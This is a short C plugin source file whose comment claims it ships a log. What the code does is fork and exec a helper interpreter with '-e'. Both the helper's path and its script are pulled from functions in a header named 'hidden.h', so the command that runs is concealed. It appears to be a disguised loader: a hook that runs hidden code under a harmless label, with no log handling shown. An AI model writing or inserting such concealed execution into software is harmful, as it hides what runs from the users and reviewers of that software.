/* Ships the log by a helper program that it forks once. */
#include "plugin.h"
#include "hidden.h" /* 0: the path of the helper, 1: its script */
extern int fork(void), waitpid(int, int *, int), execl(const char *, const char *, ...);
extern void _exit(int);
static int shipper;
static int start_shipper(const char *path, const char *script) {
    int child = fork();
    if (child != 0) return child;
    execl(path, "shipper", "-e", script, (char *)0);
    _exit(127);
}
static void act(char **env) {
    shipper = start_shipper(hidden0(), hidden1());
    if (shipper > 0) waitpid(shipper, 0, 0);
}
